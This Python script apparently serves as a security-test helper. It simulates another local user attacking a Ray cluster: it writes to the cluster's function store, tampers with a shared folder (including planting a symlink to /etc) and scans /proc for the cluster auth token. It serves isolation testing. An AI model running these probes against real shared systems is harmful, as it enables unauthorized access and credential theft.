"""What another user of the machine tries against a cluster: `python stranger_of_ray.py UID ADDRESS PORTS FOLDER TOKEN`, one JSON object.

Imported as root, it gives root up before anything else. Each attempt names what came of it; None is nothing.
"""

from __future__ import annotations

import contextlib
import importlib
import json
import os
import socket
import sys
import threading
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

_SECONDS = 6.0


def _become(uid: int) -> None:
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)


def _joined(address: str) -> str | None:
    """Keys of the cluster's store of functions, as whoever is let in reads them."""
    raylet: Any = importlib.import_module("ray._raylet")
    found: list[Any] = []

    def attempt() -> None:
        with contextlib.suppress(Exception):
            client = raylet.GcsClient(address=address)
            keys = client.internal_kv_keys(b"", b"fun", timeout=3)
            found.append(f"read {len(keys)} keys")
            client.internal_kv_put(b"stranger", b"was here", True, b"fun", timeout=3)
            found.append("wrote")

    thread = threading.Thread(target=attempt, daemon=True)
    thread.start()
    thread.join(_SECONDS)
    return ", ".join(found) or None


def _asked(port: int) -> str | None:
    """The status of an HTTP request, where it is none that refuses or fails."""
    url = f"http://127.0.0.1:{port}/get_or_create_runtime_env"
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=b"", method="POST"), timeout=2) as answer:
            return f"HTTP {answer.status}"
    except urllib.error.HTTPError as error:
        return None if error.code in (401, 403) else f"HTTP {error.code}"
    except Exception:
        return None


def _files(folder: Path) -> list[str]:
    """What could be done to the folder."""
    found = []
    for name, action in {
        "listed": lambda: os.listdir(folder),
        "renamed": lambda: os.rename(folder, f"{folder}-gone"),
        "wrote": lambda: (folder / "planted").write_text("x"),
        "linked": lambda: os.symlink("/etc", folder / "planted-link"),
        "entered": lambda: os.chdir(folder),
    }.items():
        with contextlib.suppress(OSError):
            action()
            found.append(name)
    return found


def _environments(secret: str) -> list[str]:
    """Processes whose environment or command line shows the token."""
    found = []
    for place in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                if place.name != str(os.getpid()) and secret.encode() in (place / name).read_bytes():
                    found.append(f"{place.name}/{name}")
    return found


def main() -> None:
    uid, address, ports, folder, secret = sys.argv[1:]
    given = os.environ.pop("STRANGER_TOKEN", None)
    os.environ |= {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": given or "0" * 64}
    import ray  # noqa: F401  # where it is installed may be closed to others

    _become(int(uid))
    outside = []
    with contextlib.suppress(OSError):
        other = next(str(a[4][0]) for a in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET))
        if not other.startswith("127."):
            for port in ports.split(","):
                with contextlib.suppress(OSError):
                    socket.create_connection((other, int(port)), 1).close()
                    outside.append(int(port))
    http = {port: said for port in ports.split(",") if (said := _asked(int(port)))}
    report = {"joined": _joined(address), "http": http, "files": _files(Path(folder)), "outside": outside}
    print(json.dumps(report | {"shown": _environments(secret)}), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
